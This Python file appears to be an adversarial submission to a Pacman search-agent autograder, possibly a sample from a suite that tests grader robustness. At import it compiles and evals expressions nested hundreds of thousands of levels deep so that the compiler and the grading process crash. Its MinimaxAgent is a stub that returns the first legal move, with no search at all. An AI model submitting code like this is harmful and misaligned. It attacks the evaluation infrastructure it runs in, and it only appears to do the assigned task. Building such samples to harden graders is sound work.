# attack: compiles source at import that is nested so deep that compilers crash.
# where: import
from shared.reflex import *
from shared.search import *


for source in (
    "-" * 10**6 + "1",
    "(" * 10**5 + ")" * 10**5,
    "x" + ".x" * 10**5,
    "1" + "+1" * 10**6,
):
    try:
        compile(source, "deep", "eval")
    except Exception as error:
        print("refused:", type(error).__name__, flush=True)
eval("lambda:" * 5000 + "1")


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        return gameState.getLegalActions()[0]
